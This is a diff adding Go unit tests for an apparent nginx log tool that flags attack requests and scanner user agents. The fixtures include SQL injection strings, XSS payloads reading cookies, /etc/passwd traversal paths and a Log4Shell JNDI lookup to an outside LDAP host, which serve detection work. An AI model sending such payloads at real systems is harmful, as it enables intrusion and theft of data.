@@ -0,0 +1,96 @@
+package attack
+
+import (
+	"testing"
+	"time"
+
+	"github.com/papaganelli/tailnginx/pkg/parser"
+)
+
+func TestMatch(t *testing.T) {
+	tests := map[string]string{
+		"/search?q=1%27%20OR%201=1--":                          SQLi,
+		"/items?id=1 UNION ALL SELECT username,password":       SQLi,
+		"/items?id=1/**/union/**/select/**/1,2":                SQLi,
+		"/api?id=1;SELECT+SLEEP(5)":                            SQLi,
+		"/page?q=<script>alert(1)</script>":                    XSS,
+		"/page?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E":     XSS,
+		"/page?next=javascript:alert(document.cookie)":         XSS,
+		"/static/../../../etc/passwd":                          Traversal,
+		"/download?file=%252e%252e%252f%252e%252e%252fwin.ini": Traversal,
+		"/?x=${jndi:ldap://203.0.113.7/a}":                     Log4Shell,
+		"/?x=%24%7B%24%7Blower:j%7Dndi:ldap://x%7D":            Log4Shell,
+		"/":                                  "",
+		"/blog/2025/10/union-select-review":  "",
+		"/search?q=rock+or+roll":             "",
+		"/api/users?sort=name&order=desc":    "",
+		"/images/onload.png":                 "",
+		"/docs/../guide":                     Traversal,
+		"/bad%zzescape?q=<script>":           XSS,
+		"/products?category=shoes&size=10.5": "",
+	}
+	for path, want := range tests {
+		if got := Match(path); got != want {
+			t.Errorf("Match(%q) = %q, want %q", path, got, want)
+		}
+	}
+}
+
+func TestTool(t *testing.T) {
+	tests := map[string]string{
+		"sqlmap/1.7.2#stable (https://sqlmap.org)":                          "sqlmap",
+		"Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)":          "Nikto",
+		"masscan/1.3 (https://github.com/robertdavidgraham/masscan)":        "masscan",
+		"Mozilla/5.0 zgrab/0.x":                                             "zgrab",
+		"DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP)": "DirBuster",
+		"Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org)": "Nmap",
+		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/129.0 Safari/537": "",
+		"curl/8.5.0": "",
+		"":           "",
+	}
+	for agent, want := range tests {
+		if got := Tool(agent); got != want {
+			t.Errorf("Tool(%q) = %q, want %q", agent, got, want)
+		}
+	}
+}
+
+func TestTracker(t *testing.T) {
+	tr := NewTracker()
+	now := time.Date(2025, 10, 10, 12, 0, 0, 0, time.UTC)
+	tr.now = func() time.Time { return now }
+
+	if tr.Observe(&parser.Visitor{IP: "192.0.2.1", Path: "/index.html", Agent: "Mozilla/5.0", Status: 200}) {
+		t.Error("Observe() = true for a clean request")
+	}
+	tr.Observe(&parser.Visitor{IP: "203.0.113.7", Path: "/?id=1' OR '1'='1", Status: 403})
+	tr.Observe(&parser.Visitor{IP: "203.0.113.7", Path: "/?id=1' OR '1'='1", Status: 403})
+	now = now.Add(time.Minute)
+	if !tr.Observe(&parser.Visitor{IP: "203.0.113.7", Path: "/../../etc/passwd", Agent: "sqlmap/1.7.2#stable (https://sqlmap.org)", Status: 400}) {
+		t.Error("Observe() = false for a traversal attempt")
+	}
+	tr.Observe(&parser.Visitor{IP: "198.51.100.2", Path: "/", Agent: "Mozilla/5.0 zgrab/0.x", Status: 200})
+
+	list := tr.Attempts()
+	if len(list) != 2 {
+		t.Fatalf("Attempts() = %+v, want 2 IPs", list)
+	}
+	a := list[1]
+	if list[0].IP != "198.51.100.2" || len(list[0].Kinds) != 0 || list[0].Tools[0] != "zgrab" || a.IP != "203.0.113.7" {
+		t.Fatalf("Attempts() = %+v, want the most recent first", list)
+	}
+	if len(a.Kinds) != 2 || a.Kinds[0] != SQLi || len(a.Tools) != 1 || a.Tools[0] != "sqlmap" || a.Requests != 3 || a.Errors != 3 || a.Paths != 2 || a.Path != "/../../etc/passwd" {
+		t.Errorf("Attempts() = %+v", a)
+	}
+
+	// IPs are forgotten an hour after their last attempt
+	now = now.Add(time.Hour)
+	if list := tr.Attempts(); len(list) != 0 {
+		t.Errorf("Attempts() = %+v, want none after an hour", list)
+	}
+
+	var nilTracker *Tracker
+	if nilTracker.Observe(&parser.Visitor{IP: "192.0.2.1", Path: "/?q=<script>"}) || nilTracker.Attempts() != nil {
+		t.Error("nil Tracker should ignore entries")
+	}
+}